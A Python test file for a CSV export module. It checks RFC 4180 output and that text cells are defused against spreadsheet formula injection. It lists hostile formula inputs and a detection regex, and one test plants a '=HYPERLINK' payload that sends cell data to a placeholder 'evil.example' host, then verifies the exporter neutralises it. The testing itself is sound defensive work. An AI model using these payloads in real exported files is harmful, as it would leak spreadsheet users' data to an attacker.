"""Tables: columns made from models, CSV as RFC 4180 has it, and no cell that a spreadsheet would execute."""

from __future__ import annotations

import re
from datetime import date
from decimal import Decimal
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from showcase.exports.data.document import Number, Texts
from showcase.exports.data.resources import TABLES
from showcase.exports.data.tables import create_csv, disarm, list_columns, list_values
from showcase.records import Record
from showcase.vocabulary import Kind
from tests.built_site import copy_golden
from tests.open_data.built_data import create_data, load_publication, read_csv

if TYPE_CHECKING:
    from pathlib import Path

    from tests.open_data.built_data import Tree

HOSTILE = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "a;=1+1", ";;-1")  # noqa: RUF001  full-width
FORMULA = re.compile(r"[=+\-@\t\r\n＝＋－＠]")  # noqa: RUF001


class Below(Record):
    """What stands in a row's record."""

    year: int
    """A year."""
    texts: Texts | None
    """Texts."""


class Row(Record):
    """A row of every sort of column."""

    kind: Kind
    """A closed list."""
    value: Number
    """A number."""
    below: Below | None
    """A mapping that may be missing."""
    day: date
    """A day."""
    is_so: bool
    """Yes or no."""
    scopes: tuple[int, ...]
    """A list."""
    rows: tuple[Below, ...]
    """A list of mappings: no column."""
    counts: dict[Kind, int]
    """A mapping of counts: no column."""


def test_columns_are_the_fields_of_a_model_and_of_what_stands_in_it() -> None:
    columns = {column.name: column for column in list_columns(Row)}
    assert list(columns) == [
        *(
            "kind",
            "value",
            "below_year",
            "below_texts_fi",
            "below_texts_sv",
            "below_texts_en",
            "day",
            "is_so",
            "scopes",
        ),
    ]
    assert columns["kind"].options == ("partner", "supporting-member")
    assert {name for name, column in columns.items() if column.may_be_empty} == {
        *("below_year", "below_texts_fi", "below_texts_sv", "below_texts_en", "scopes"),
    }
    forms = {"kind": "string", "value": "number", "below_year": "integer", "day": "date", "is_so": "boolean"}
    assert {name: columns[name].form for name in forms} == forms


def create_row(text: str = "teksti", value: str = "1.50", *, below: bool = True) -> Row:
    """Return a row."""
    return Row(
        kind=Kind.PARTNER,
        value=Decimal(value),
        below=Below(year=2024, texts=Texts(fi=text, sv=None, en=None)) if below else None,
        day=date(2025, 3, 20),
        is_so=False,
        scopes=(1, 2),
        rows=(),
        counts={},
    )


def test_a_table_is_written_as_rfc_4180_has_it() -> None:
    rows = [create_row('hän sanoi "ei", ja\nlähti'), create_row(value="-3", below=False)]
    assert create_csv(list_columns(Row), rows).decode().split("\r\n") == [
        "kind,value,below_year,below_texts_fi,below_texts_sv,below_texts_en,day,is_so,scopes",
        'partner,1.50,2024,"hän sanoi ""ei"", ja\nlähti",,,2025-03-20,false,1 2',
        "partner,-3,,,,,2025-03-20,false,1 2",
        "",
    ]


def test_a_table_without_rows_has_its_head() -> None:
    assert create_csv(list_columns(Row), ()).decode().count("\r\n") == 1


def test_every_row_has_a_value_for_every_column() -> None:
    for row in (create_row(), create_row(below=False)):
        assert len(list(list_values(row, list_columns(Row)))) == len(list_columns(Row))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_begins_a_formula(text: str) -> None:
    """Neither in a program that parts cells at commas nor in one that parts them at semicolons."""
    (row,) = read_csv(create_csv(list_columns(Row), [create_row(text)]))
    for cell in row["below_texts_fi"].split(";"):
        assert not FORMULA.match(cell)
    assert row["below_texts_fi"].replace("'", "") == text


def test_a_number_stays_a_number_and_a_harmless_text_as_it_is() -> None:
    (row,) = read_csv(create_csv(list_columns(Row), [create_row("a-b = c; d + e@f", "-12.5")]))
    assert (row["value"], row["below_texts_fi"]) == ("-12.5", "a-b = c; d + e@f")


@given(st.text())
def test_only_apostrophes_are_added(text: str) -> None:
    disarmed = disarm(text)
    assert disarmed.replace("'", "") == text.replace("'", "")
    assert not any(FORMULA.match(cell) for cell in disarmed.split(";"))


def test_the_names_of_a_hostile_network_are_harmless(tmp_path: Path) -> None:
    sources = copy_golden(tmp_path)
    profile = sources / "partners" / "pikku-paja" / "partner.yaml"
    evil = '=HYPERLINK("https://evil.example?"&A1;"x");=1'
    text = re.sub(r"^name: .*$", f"name: '{evil}'", profile.read_text("utf-8"), flags=re.MULTILINE)
    profile.write_text(text, "utf-8")
    tree = create_data(load_publication(sources))
    named = [row["partner_name"] for row in read_csv(tree["targets.csv"]) if row["partner"] == "pikku-paja"]
    assert set(named) == {'\'=HYPERLINK("https://evil.example?"&A1;"x");\'=1'}


def test_no_cell_of_a_published_table_begins_a_formula(data: Tree) -> None:
    numbers = {column.name for table in TABLES for column in list_columns(table.record) if column.form == "number"}
    tables = [read_csv(content) for path, content in data.items() if path.endswith(".csv")]
    cells = [cell for rows in tables for row in rows for name, cell in row.items() if name not in numbers]
    assert len(cells) > 1000
    assert not [cell for cell in cells if FORMULA.match(cell)]


def test_the_columns_that_others_count_on_come_first(golden_data: Tree) -> None:
    heads = {path: content.decode().split(",")[:2] for path, content in golden_data.items() if path.endswith(".csv")}
    assert set(map(tuple, heads.values())) == {("partner", "target")}
